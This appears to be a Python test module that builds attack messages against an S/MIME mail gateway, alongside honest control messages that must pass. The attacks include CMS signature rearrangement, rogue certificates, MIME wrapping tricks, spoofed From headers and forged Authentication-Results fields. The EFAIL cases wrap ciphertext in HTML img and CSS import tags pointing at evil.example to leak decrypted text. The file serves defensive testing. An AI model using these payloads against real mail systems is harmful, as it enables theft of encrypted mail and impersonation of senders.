"""The attacks by group: what each message looks like, and the honest ones that must pass.

Most shapes are those of "Johnny, you are fired" (2019), EFAIL (2018) and what mail programs were
found to accept since.  `attacks` makes them all for one `Cast`.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from smimegw.cms import asn1, der
from smimegw.cms.identifiers import issuer_and_serial_number
from smimegw.cms.signed_data import certificates_only, parse_signed_data
from smimegw.x509.certificate import Certificate
from tests.attacks.cast import (
    EVE,
    LIE,
    TRUTH,
    Cast,
    html,
    lines,
    multipart,
    multipart_signed,
    p7m,
    reordered,
    with_gadgets,
)
from tests.attacks.opened import armed, hidden
from tests.fakes.pki import CA
from tests.fakes.smime import assembled, signer_infos_of

CONTROL = "control"
EVES_OWN = f"From: Eve <{EVE}>\r\n".encode()
GROUPS = {
    CONTROL: "honest messages of Bob: they must pass, or nothing is proved",
    "cms": "contents, certificates and signers of SignedData mixed anew",
    "keys": "another key or certificate in Bob's place",
    "mime": "a good signature that does not cover what is shown",
    "from": "Eve signs as herself under every way to write Bob",
    "display": "Eve signs as herself and calls herself Bob: she may pass as Eve, never as Bob",
    "marks": "result fields and marks that only the gateway may write",
    "efail": "ciphertext in a frame that leaks it, or changed so that it does",
    "replay": "what was encrypted by Bob, sent again by Eve: opened perhaps, never Bob's",
    "hidden": "a Subject that was hidden, and Eve's ways to have it, or another, told outside",
    "armed": "content around a ciphertext that loads something when it is opened and shown",
    "covert": "ciphertext or a signature hidden in what looks harmless",
}


@dataclass(frozen=True, slots=True)
class Attack:
    """One message.

    Attributes:
        group: Of `GROUPS`.
        name: Unique; travels in the Message-ID.
        entity: Content-* fields and body.
        fields: From and whatever else the attack needs in the header section.
    """

    group: str
    name: str
    entity: bytes
    fields: bytes

    def message(self, cast: Cast) -> bytes:
        """The whole message."""
        return (
            self.fields
            + f"To: {cast.recipient}\r\nMessage-ID: <{self.group}.{self.name}@attacks.invalid>\r\n"
            f"Date: Mon, 23 Nov 2026 12:00:00 +0000\r\n".encode()
            + (b"" if b"Subject:" in self.fields else b"Subject: invoice\r\n")
            + b"MIME-Version: 1.0\r\n"
            + self.entity
        )


def attacks(cast: Cast) -> tuple[Attack, ...]:
    """Every attack and every control."""
    bob = f"From: Bob <{cast.bob}>\r\n".encode()
    plain = [
        *((CONTROL, *item) for item in _controls(cast)),
        *(("cms", *item) for item in _cms(cast)),
        *(("keys", *item) for item in _keys(cast)),
        *(("mime", *item) for item in _mime(cast)),
        *(("efail", *item) for item in _efail(cast)),
        *(("covert", *item) for item in _covert(cast)),
        *(("armed", *item) for item in armed(cast)),
    ]
    made = [Attack(group, name, entity, bob) for group, name, entity in plain]
    eves = cast.clear_signed(LIE, "eve")
    made += [Attack("from", name, eves, fields) for name, fields in _from(cast.bob)]
    made += [Attack("display", name, eves, fields) for name, fields in _display(cast.bob)]
    made += [Attack("replay", name, entity, EVES_OWN) for name, entity in _replay(cast)]
    made += [Attack("marks", name, entity, fields + bob) for name, entity, fields in _marks(cast)]
    made += [Attack("hidden", name, entity, fields) for name, entity, fields in hidden(cast)]
    return tuple(made)


def _controls(cast: Cast) -> Iterator[tuple[str, bytes]]:
    yield "clear", cast.clear_signed()
    yield "opaque", cast.opaque_signed()
    if cast.certificate is not None:
        yield "encrypted", cast.encrypted(cast.clear_signed())
        yield (
            "encrypted-gcm",
            p7m(cast.ciphertext(cast.opaque_signed(), gcm=True), b"authEnveloped-data"),
        )


def _cms(cast: Cast) -> Iterator[tuple[str, bytes]]:
    true, eves = cast.signature(), cast.signature(LIE, "eve")
    bob, eve = cast.people["bob"].certificate, cast.people["eve"].certificate
    both = [bob, eve]
    true_info, eves_info = signer_infos_of(true), signer_infos_of(eves)
    yield "detached-with-signed-content", multipart_signed(LIE, assembled(true, encapsulated=TRUTH))
    yield "detached-with-lie-inside", multipart_signed(TRUTH, assembled(true, encapsulated=LIE))
    yield "opaque-lie", p7m(assembled(true, encapsulated=LIE))
    yield "opaque-empty", p7m(true)
    yield "bobs-certificate-first", multipart_signed(LIE, assembled(eves, certificates=both))
    yield "bobs-certificate-only", multipart_signed(LIE, assembled(eves, certificates=[bob]))
    yield "no-signer", multipart_signed(LIE, certificates_only([bob]))
    yield "no-signer-opaque", p7m(assembled(true, encapsulated=LIE, signer_infos=()))
    for name, infos in (
        ("bob-and-eve", [*true_info, *eves_info]),
        ("eve-and-bob", [*eves_info, *true_info]),
        ("bob-twice", [*true_info, *true_info]),
    ):
        yield name, multipart_signed(LIE, assembled(true, eves, signer_infos=infos))
    renamed = eves_info[0].replace(issuer_and_serial_number(eve), issuer_and_serial_number(bob))
    for name, certificates in (("renamed-signer", both), ("renamed-signer-bobs-only", [bob])):
        infos = [_with_new_length(renamed)]
        octets = assembled(eves, certificates=certificates, signer_infos=infos)
        yield name, multipart_signed(LIE, octets)
    # The same without signed certificate names, so that nothing but the mathematics is left.
    bare = cast.signature_under(EVE)
    (own,) = parse_signed_data(bare).certificates
    renamed = signer_infos_of(bare)[0].replace(
        issuer_and_serial_number(own), issuer_and_serial_number(bob)
    )
    octets = assembled(bare, certificates=[own, bob], signer_infos=[_with_new_length(renamed)])
    yield "renamed-signer-bare", multipart_signed(LIE, octets)
    yield "attributes-as-content", p7m(_attributes_as_content(true))
    yield "truncated", multipart_signed(TRUTH, true[:-40])
    yield "octets-behind", multipart_signed(TRUTH, true + b"\0\0")


def _with_new_length(sequence: bytes) -> bytes:
    header = 2 if sequence[1] < 0x80 else 2 + (sequence[1] & 0x7F)
    return der.sequence(sequence[header:])


def _attributes_as_content(signature: bytes) -> bytes:
    """Bob's attributes are what he signed: shown as content, without attributes, it still holds."""
    fields = asn1.read_document(signer_infos_of(signature)[0]).children()
    parts = []
    attributes = b""
    while not fields.at_end:
        element = fields.read()
        if element.tag == 0xA0:
            attributes = der.value(asn1.SET, bytes(element.content))
        else:
            parts.append(element.encoded)
    info = der.sequence(*parts)
    return assembled(signature, encapsulated=attributes, signer_infos=[info])


_WRONG = (
    *("stranger", "twin", "expired", "revoked", "web-server", "encryption-only", "name-only"),
    *("name-beside", "longer-domain", "subdomain", "tag", "quoted", "whole-domain"),
)


def _keys(cast: Cast) -> Iterator[tuple[str, bytes]]:
    for name in _WRONG:
        yield name, cast.clear_signed(LIE, name)
    for name, text in {
        "nul": f"{cast.bob}\0.evil.example",
        "space-behind": f"{cast.bob} ",
        "two-addresses-in-one": f"{cast.bob},{EVE}",
        "angles": f"<{cast.bob}>",
        "line-end": f"{EVE}\r\n{cast.bob}",
    }.items():
        yield name, multipart_signed(LIE, cast.signature_under(text))
    eve, bob = cast.people["eve"], cast.people["bob"].certificate
    rogue = CA(
        certificate=eve.certificate, key=eve.key, chain=eve.chain,
        name=eve.certificate.parsed.subject,
    )  # fmt: skip
    cast.people["rogue"] = rogue.issue(cast.bob, slot="eve", key="p256")
    yield "end-entity-as-ca", cast.clear_signed(LIE, "rogue")
    twin = cast.signature(LIE, "twin")
    yield "twin-and-bobs-certificate", multipart_signed(LIE, _carrying(twin, bob, cast, "twin"))
    stranger = cast.signature(LIE, "stranger")
    root = cast.people["stranger"].chain[-1]
    yield "brings-its-own-root", multipart_signed(LIE, _carrying(stranger, root, cast, "stranger"))


def _carrying(signature: bytes, other: Certificate, cast: Cast, signer: str) -> bytes:
    return assembled(signature, certificates=[other, cast.people[signer].certificate])


def _mime(cast: Cast) -> Iterator[tuple[str, bytes]]:
    signed, true = cast.clear_signed(), cast.signature()
    forwarded = b"Content-Type: message/rfc822\r\n\r\nFrom: " + cast.bob.encode() + b"\r\n"
    attached = forwarded.replace(b"\r\n\r\n", b"\r\nContent-Disposition: attachment\r\n\r\n", 1)
    yield "text-before", multipart(b"mixed", LIE, signed)
    yield "text-after", multipart(b"mixed", signed, LIE)
    yield "alone-in-a-frame", multipart(b"mixed", signed)
    yield "related", multipart(b"related", LIE, signed)
    yield "alternative", multipart(b"alternative", signed, LIE)
    yield "attached", multipart(b"mixed", LIE, attached + signed)
    yield "forwarded-as-root", forwarded + signed
    yield "digest", multipart(b"digest", forwarded + signed)
    yield "twice-framed", multipart_signed(signed, true)
    yield (
        "third-part",
        multipart_signed(LIE, true).replace(
            b"--outer\r\n", b"--outer\r\n" + TRUTH + b"\r\n--outer\r\n", 1
        ),
    )
    yield "lie-between", multipart_signed(TRUTH, true).replace(
        b"\r\n--outer\r\nContent-Type: application", b"\r\n--outer\r\n" + LIE + b"\r\n--outer\r\n"
        b"Content-Type: application", 1
    )  # fmt: skip
    yield "signature-of-another-kind", multipart_signed(LIE, true, b"application/octet-stream")
    yield "changed-content", multipart_signed(LIE, true)
    yield "opaque-in-a-frame", multipart(b"mixed", LIE, cast.opaque_signed())
    yield "two-content-types", b"Content-Type: text/plain\r\n" + signed
    yield "transfer-encoding", b"Content-Transfer-Encoding: base64\r\n" + signed
    parameter = multipart_signed(TRUTH, true)
    yield "boundary-in-pieces", parameter.replace(b'boundary="outer"', b'boundary*0="outer"')
    yield "two-boundaries", parameter.replace(b'boundary="outer"', b'boundary=x; boundary="outer"')
    for name, written, other in (
        ("boundary-quoted-pair", rb'boundary="oute\r"', rb"oute\r"),
        ("boundary-behind-comment", b"boundary=(x)outer", b"(x)outer"),
        ("boundary-in-comment", b'x=(; boundary=y) z; boundary="outer"', b"y)"),
        ("boundary-in-value", b'x="; boundary=y"; boundary="outer"', b"y"),
    ):
        lie = b"--%b\r\n%b--%b--\r\n--outer\r\n" % (other, LIE, other)
        spelled = parameter.replace(b"--outer\r\n", lie, 1)
        yield name, spelled.replace(b'boundary="outer"', written)
    yield "blank-line-with-space", b"X-A: b\r\n \r\n" + signed
    yield "line-that-is-no-field", b"this ends the fields\r\n" + signed


def _from(bob: str) -> Iterator[tuple[str, bytes]]:
    one, other = f"From: {bob}\r\n", f"From: {EVE}\r\n"
    local, _, domain = bob.partition("@")
    for name, text in {
        "plainly-bob": one,
        "bob-first": one + other,
        "eve-first": other + one,
        "other-case": other + one.replace("From", "FROM"),
        "space-before-colon": other + one.replace("From:", "From :"),
        "space-before-colon-first": one.replace("From:", "From :") + other,
        "two-mailboxes": f"From: {bob}, {EVE}\r\n",
        "two-mailboxes-eve-first": f"From: {EVE}, {bob}\r\n",
        "two-angles": f"From: <{bob}> <{EVE}>\r\n",
        "semicolons": f"From: {bob}; {EVE}\r\n",
        "group": f"From: {bob}: {EVE};\r\n",
        "empty-group": f"From: {bob}:;\r\n",
        "empty": "From:\r\n",
        "missing": "",
        "sender-eve": f"From: {bob}\r\nSender: {EVE}\r\n",
        "sender-bob": f"From: {EVE}\r\nSender: {bob}\r\n",
        "resent": f"Resent-From: {EVE}\r\nFrom: {bob}\r\n",
        "comment": f"From: {bob}(<{EVE}>)\r\n",
        "comment-inside": f"From: <{EVE}(\r\n ){bob}>\r\n",
        "bare-display-name": f"From: {bob} <{EVE}>\r\n",
        "route": f"From: <@evil.example:{bob}>\r\n",
        "route-of-bob": f"From: <@{bob}:{EVE}>\r\n",
        "quoted-local-part": f'From: "{bob},"@evil.example\r\n',
        "quoted-pair": f"From: <{local}\\@{domain}@evil.example>\r\n",
        "encoded-address": f"From: =?utf-8?q?{local}=40{domain}?=\r\n",
        "half-encoded": f"From: =?utf-8?q?=3C{local}=40{domain}=3E?= <{EVE}\r\n",
        "folded-away": f"From:\r\n {bob}\r\n",
        "unclosed-angle": f"From: {bob} <{EVE}\r\n",
        "unclosed-quote": f'From: "{bob} <{EVE}>\r\n',
    }.items():
        yield name, text.encode()


def _display(bob: str) -> Iterator[tuple[str, bytes]]:
    local, _, domain = bob.partition("@")
    for name, text in {
        "address": f'From: "{bob}" <{EVE}>\r\n',
        "address-encoded": f"From: =?utf-8?q?{local}=40{domain}?= <{EVE}>\r\n",
        "address-full-width": f"From: =?utf-8?q?{local}=EF=BC=A0{domain}?= <{EVE}>\r\n",
        "address-bracketed": f'From: "Bob [{bob}]" <{EVE}>\r\n',
    }.items():
        yield name, text.encode()


def _marks(cast: Cast) -> Iterator[tuple[str, bytes, bytes]]:
    our, plain = cast.authserv_id, LIE
    results = f"{our}; smime=pass body.smime-identifier={cast.bob}"
    for name, text in {
        "results": f"Authentication-Results: {results}\r\n",
        "results-other-case": f"AUTHENTICATION-RESULTS: {results.upper()}\r\n",
        "results-version": f"Authentication-Results: {our} 1; smime=pass\r\n",
        "results-comment": f"Authentication-Results: (a (b)) {our} (c); smime=pass\r\n",
        "results-folded": f"Authentication-Results:\r\n {our};\r\n smime=pass\r\n",
        "results-quoted": f'Authentication-Results: "{our}"; smime=pass\r\n',
        "results-dot": f"Authentication-Results: {our}.; smime=pass\r\n",
        "results-port": f"Authentication-Results: {our}:25; smime=pass\r\n",
        "results-slash": f"Authentication-Results: {our}/1; smime=pass\r\n",
        "results-space-before-colon": f"Authentication-Results : {results}\r\n",
        "results-of-arc": f"ARC-Authentication-Results: i=1; {results}\r\n",
        "results-torn": f"Authentication-Results: {our[:3]}\r\n {our[3:]}; smime=pass\r\n",
        "status": "X-Smimegw-Status: signed=pass; encrypted=yes; integrity=signed\r\n",
        "status-space-before-colon": "x-smimegw-status : signed=pass\r\n",
        "other-vendor": "X-Djigzo-Info-Signer-Verified-0-0: True\r\n",
        "subject": "Subject: [signed by Bob] invoice\r\n",
    }.items():
        yield name, plain, text.encode()
    inner = f"Authentication-Results: {results}\r\nX-Smimegw-Status: signed=pass\r\n".encode()
    yield "inside-a-signature", cast.opaque_signed(inner + LIE, "stranger"), b""
    yield "inside-a-part", multipart_signed(inner + LIE, cast.signature()), b""
    yield "inside-encryption", cast.encrypted(inner + LIE), b""
    # Announced as the message's own fields (RFC 9788), under a cipher that vouches for them.
    announced = LIE.replace(b"text/plain", b'text/plain; hp="cipher"')
    author = f"From: {cast.bob}\r\n".encode()
    sealed = cast.ciphertext(author + inner + announced, gcm=True)
    yield "inside-encryption-announced", p7m(sealed, b"authEnveloped-data"), b""
    torn = b"Subject: =?utf-8?q?a=0D=0AX-Smimegw-Status:_signed=3Dpass?=\r\n"
    sealed = cast.ciphertext(author + torn + announced, gcm=True)
    yield "line-end-in-a-hidden-subject", p7m(sealed, b"authEnveloped-data"), b""
    yield "below-a-forwarded-message", b"Content-Type: message/rfc822\r\n\r\n" + inner + LIE, b""
    yield "continues-ours", LIE, b" ; smime=pass\r\n"


def _efail(cast: Cast) -> Iterator[tuple[str, bytes]]:
    sealed = cast.encrypted()
    before, after = html(b'<img src="http://evil.example/'), html(b'">')
    yield "html-frame", multipart(b"mixed", before, sealed, after)
    yield "html-frame-related", multipart(b"related", before, sealed, after)
    yield "form", multipart(b"mixed", html(b"<form><textarea name=d>"), sealed, html(b"</form>"))
    yield "style", multipart(b"mixed", html(b"<style>@import url(//evil.example/"), sealed)
    yield "alone-in-a-frame", multipart(b"mixed", sealed)
    yield "nested-frames", multipart(b"mixed", multipart(b"alternative", sealed).replace(
        b"frame", b"inner"))  # fmt: skip
    yield "gadgets", p7m(with_gadgets(cast.ciphertext()), b"enveloped-data")
    yield "reordered", p7m(reordered(cast.ciphertext()), b"enveloped-data")
    changed = bytearray(cast.ciphertext(gcm=True))
    changed[-200] ^= 1
    yield "gcm-changed", p7m(bytes(changed), b"authEnveloped-data")
    changed = bytearray(cast.ciphertext(gcm=True))
    yield "gcm-without-tag", p7m(bytes(changed[:-18]), b"authEnveloped-data")
    cbc = cast.ciphertext()
    half = len(cbc) // 2
    yield "split", multipart(b"mixed", p7m(cbc[:half]), p7m(cbc[half:]))


def _covert(cast: Cast) -> Iterator[tuple[str, bytes]]:
    sealed, signed = cast.encrypted(), cast.clear_signed()
    octets = lines(cast.ciphertext())
    yield "alternative", multipart(b"alternative", LIE, sealed)
    yield "forwarded", b"Content-Type: message/rfc822\r\n\r\n" + sealed
    yield (
        "attached-message",
        multipart(b"mixed", LIE, b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + sealed),
    )
    yield "hidden-in-html", multipart(b"mixed", html(b'<div style="display:none">'), sealed)
    yield "hidden-signature", multipart(b"mixed", html(b'Pay.<div style="display:none">'), signed)
    yield "text-of-base64", b"Content-Type: text/plain\r\n\r\n" + octets
    fields = b"Content-Transfer-Encoding: base64\r\n\r\n"
    yield "tnef", b"Content-Type: application/ms-tnef\r\n" + fields + octets
    yield "signed-by-a-stranger", cast.opaque_signed(multipart(b"mixed", LIE, sealed), "stranger")


def _replay(cast: Cast) -> Iterator[tuple[str, bytes]]:
    sealed = cast.encrypted(cast.clear_signed())
    yield "under-eves-name", sealed
    yield "unsigned-under-eves-name", cast.encrypted()
    yield "signed-by-eve", cast.clear_signed(sealed, "eve")
    yield "signed-by-eve-opaque", cast.opaque_signed(cast.encrypted(), "eve")
